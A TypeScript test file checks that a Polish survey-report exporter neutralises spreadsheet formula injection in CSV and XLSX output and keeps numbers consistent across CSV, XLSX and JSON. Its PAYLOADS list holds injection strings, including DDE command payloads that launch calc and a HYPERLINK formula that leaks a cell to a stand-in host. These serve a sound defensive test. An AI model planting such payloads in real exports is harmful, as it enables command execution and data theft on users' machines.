import { numberReport, type Report, type TableBlock } from '@rozeznanie/core/report'
import { aReport, shown } from '@rozeznanie/core/testing'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { renderCsv } from './csv.ts'
import { renderJson } from './json.ts'
import { renderXlsx } from './xlsx.ts'

const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://zlo.example/?x="&A1,"kliknij")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u0001=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '"=1+1',
  '=1+1";=2+2;"',
] as const

/** A report in which every text of a table is the payload. */
function reportWith(payload: string): Report {
  const table: TableBlock = {
    kind: 'table',
    caption: payload,
    columns: [
      { label: payload, kind: 'text' },
      { label: payload, kind: 'count' },
    ],
    rows: [
      [
        { kind: 'text', text: payload },
        { kind: 'count', value: shown(12) },
      ],
    ],
    notes: [payload],
    source: payload,
  }
  const section = { code: payload, title: payload, blocks: [table], sections: [] }
  return {
    ...aReport(0),
    title: payload,
    surveyTitle: payload,
    organisationName: payload,
    municipalityName: payload,
    sections: [section],
  }
}

const DANGEROUS = /^[\s\u00a0\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/
const text = async (report: Report) =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(await renderCsv(report))
const records = (csv: string): string[][] =>
  parse(csv, { bom: true, delimiter: ';', relax_column_count: true })
async function workbookOf(report: Report): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load((await renderXlsx(report)).buffer as ArrayBuffer)
  return workbook
}

describe.each(PAYLOADS)('a text like %j', (payload) => {
  it('is no formula in the CSV', async () => {
    const cells = records(await text(reportWith(payload))).flat()

    expect(cells.filter((cell) => DANGEROUS.test(cell))).toEqual([])
    expect(cells.some((cell) => cell.includes('1'))).toBe(true)
  })

  it('is no formula in the workbook', async () => {
    const bytes = await renderXlsx(reportWith(payload))
    const sheets = Object.entries(unzipSync(bytes)).filter(([name]) => name.startsWith('xl/worksheets/'))
    const values: unknown[] = []
    const workbook = await workbookOf(reportWith(payload))
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => values.push(cell.text))))

    expect(sheets.filter(([, xml]) => /<f[ >]/.test(strFromU8(xml)))).toEqual([])
    expect(values.filter((value) => DANGEROUS.test(String(value)))).toEqual([])
  })
})

describe('the workbook', () => {
  const report = aReport(320)
  const { tables } = numberReport(report)

  it('has contents, method and a sheet per table, all with different names', async () => {
    const names = (await workbookOf(report)).worksheets.map(({ name }) => name)

    expect(names.slice(0, 2)).toEqual(['Spis treści', 'Metoda'])
    expect(names.length).toBe(tables.length + 2)
    expect(new Set(names).size).toBe(names.length)
  })

  it('keeps numbers as numbers with Polish formats and its headings in sight', async () => {
    const sheet = (await workbookOf(report)).worksheets[2]

    expect(sheet?.getCell('A1').text).toBe('Tabela nr 1. Sposób zbierania odpowiedzi')
    expect(typeof sheet?.getCell('B4').value).toBe('number')
    expect(sheet?.getCell('B4').numFmt).toBe('0"%"')
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 3 })
  })

  it('says what the results mean, and that the data are examples', async () => {
    const method = (await workbookOf(report)).getWorksheet('Metoda')
    const texts: string[] = []
    method?.eachRow((row) => texts.push(row.getCell(1).text))

    expect(texts[0]).toMatch(/^Dane przykładowe/)
    expect(texts.join(' ')).toContain('nie wolno ich uogólniać')
  })
})

describe('the CSV', () => {
  it('is read by a Polish spreadsheet: mark, semicolons, numbers without signs, CRLF', async () => {
    const csv = await text(aReport(320))

    expect(csv.startsWith('\ufeff"Rozdział";"Nr tabeli";')).toBe(true)
    expect(csv.endsWith('\r\n')).toBe(true)
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/)
    expect(csv).toMatch(/;\d+;"1"\r\n/)
  })

  it('says of every value which versions of the questionnaire are behind it', async () => {
    const [table] = numberReport(aReport(320)).tables
    if (table === undefined) throw new Error('no table')
    const own = { ...table.table, versions: [2] }
    const section = { code: 'A1', title: 'Gmina', blocks: [own, table.table], sections: [] }

    const lines = records(await text({ ...aReport(0), versions: [1, 2], sections: [section] })).slice(1, -1)

    expect(new Set(lines.map((line) => `${line[1]}: ${line.at(-1)}`))).toEqual(new Set(['1: 2', '2: 1, 2']))
  })

  it('gives back Polish letters, quotes and line breaks as they were', async () => {
    const report = reportWith('Zażółć „gęślą"; jaźń\nnowy wiersz')

    expect(records(await text(report))[1]?.[2]).toBe('Zażółć „gęślą"; jaźń\nnowy wiersz')
  })
})

describe('all formats', () => {
  it('hold the same numbers', async () => {
    const report = aReport(320)
    const { tables } = numberReport(JSON.parse(new TextDecoder().decode(await renderJson(report))) as Report)
    const inJson = tables.flatMap(({ table }) =>
      table.rows
        .flat()
        .flatMap((cell) =>
          cell.kind === 'count' || cell.kind === 'percent' || cell.kind === 'decimal' ? [cell.value] : [],
        ),
    )

    const inCsv = records(await text(report))
      .slice(1)
      .flatMap(([, , , , , value = '']) =>
        /^\d+(,\d+)?$/.test(value) ? [Number(value.replace(',', '.'))] : [],
      )
    const inXlsx: number[] = []
    for (const sheet of (await workbookOf(report)).worksheets.slice(2)) {
      sheet.eachRow((row) => row.eachCell(({ value }) => typeof value === 'number' && inXlsx.push(value)))
    }

    expect(inJson.length).toBeGreaterThan(300)
    expect(inCsv).toEqual(inJson)
    expect(inXlsx).toEqual(inJson)
  })
})
